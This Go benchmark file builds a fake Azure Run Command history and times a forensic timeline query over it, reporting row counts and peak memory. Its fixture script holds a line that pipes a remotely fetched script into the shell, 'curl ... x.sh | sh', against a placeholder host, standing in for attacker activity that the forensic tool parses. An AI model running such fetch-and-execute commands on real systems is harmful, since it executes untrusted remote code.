package main

import (
	"context"
	"encoding/base64"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"github.com/Velocidex/ordereddict"
	"github.com/azvql/azvql/tools/loggen/loggen"
	"github.com/azvql/azvql/vql/host"
	"www.velocidex.com/golang/vfilter"
)

// timelineTree writes n Run Command v1 executions (settings, status,
// script, stdout, stderr, a dropped file; the shape of
// plugins/extensions' BenchmarkExecutionsWalk tree) and a waagent.log of
// logBytes from tools/loggen below root. Times are spread one minute per
// run so the sort has work to do.
func timelineTree(tb testing.TB, root string, n int, logBytes int64) {
	tb.Helper()
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	h := filepath.Join(root, "var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5")
	dl := filepath.Join(root, "var/lib/waagent/run-command/download")
	for _, d := range []string{filepath.Join(h, "config"), filepath.Join(h, "status"), filepath.Join(root, "var/log")} {
		must(os.MkdirAll(d, 0o755))
	}
	must(os.WriteFile(filepath.Join(h, "mrseq"), []byte(fmt.Sprint(n-1)), 0o600))
	script := "#!/bin/sh\ncurl -s https://example.invalid/x.sh | sh\nid\n"
	pub := fmt.Sprintf(`{"script": %q}`, base64.StdEncoding.EncodeToString([]byte(script)))
	t0 := time.Date(2024, 5, 2, 10, 0, 0, 0, time.UTC)
	for i := 0; i < n; i++ {
		s := fmt.Sprint(i)
		at := t0.Add(time.Duration(i) * time.Minute)
		set := filepath.Join(h, "config", s+".settings")
		must(os.WriteFile(set, []byte(`{"runtimeSettings": [{"handlerSettings": {"publicSettings": `+pub+`}}]}`), 0o644))
		sts := filepath.Join(h, "status", s+".status")
		must(os.WriteFile(sts, []byte(`[{"version": 1, "timestampUTC": "`+at.Add(5*time.Second).Format(time.RFC3339)+
			`", "status": {"operation": "Enable", "status": "success", "formattedMessage": {"lang": "en", "message": "Enable succeeded: \n[stdout]\nuid=0(root)\n\n[stderr]\n"}}}]`), 0o644))
		d := filepath.Join(dl, s)
		must(os.MkdirAll(d, 0o700))
		for name, body := range map[string]string{"script.sh": script, "stdout": "uid=0(root)\n", "stderr": "", "x.sh": "echo dropped\n"} {
			must(os.WriteFile(filepath.Join(d, name), []byte(body), 0o600))
			must(os.Chtimes(filepath.Join(d, name), at.Add(time.Second), at.Add(time.Second)))
		}
		must(os.Chtimes(set, at, at))
		must(os.Chtimes(sts, at.Add(5*time.Second), at.Add(5*time.Second)))
	}
	if logBytes > 0 {
		f, err := os.Create(filepath.Join(root, "var/log/waagent.log"))
		must(err)
		_, err = loggen.Generate(f, logBytes, 1)
		must(err)
		must(f.Close())
	}
}

// BenchmarkTimeline: Generic.Azure.Timeline's Timeline source end to end
// (artifact compilation, every source, the sort) through the same scope
// as `vql artifacts collect`. Metrics: rows and peak RSS of the process
// (getrusage; the benchmark binary's own baseline included).
// AZVQL_TIMELINE_LOG=200MB adds the large waagent.log (default 20MB).
func BenchmarkTimeline(b *testing.B) {
	size := os.Getenv("AZVQL_TIMELINE_LOG")
	if size == "" {
		size = "20MB"
	}
	logBytes, err := loggen.ParseSize(size)
	if err != nil {
		b.Fatal(err)
	}
	for _, n := range []int{1000, 10000} {
		b.Run(fmt.Sprintf("executions=%d/log=%s", n, size), func(b *testing.B) {
			root := b.TempDir()
			timelineTree(b, root, n, logBytes)
			repo, err := loadRepository()
			if err != nil {
				b.Fatal(err)
			}
			stmt, err := vfilter.Parse("SELECT * FROM Artifact.Generic.Azure.Timeline(Root=BenchRoot, source='Timeline')")
			if err != nil {
				b.Fatal(err)
			}
			b.ResetTimer()
			rows := 0
			for i := 0; i < b.N; i++ {
				scope := newArtifactScope(repo, ordereddict.NewDict().Set("BenchRoot", root), log.New(os.Stderr, "", 0), nil)
				ch, done := host.Eval(context.Background(), scope, stmt)
				rows = 0
				for range ch {
					rows++
				}
				done()
				scope.Close()
			}
			b.StopTimer()
			var ru syscall.Rusage
			syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
			b.ReportMetric(float64(rows), "rows")
			b.ReportMetric(float64(ru.Maxrss)/1024, "peakRSS-MB")
		})
	}
}
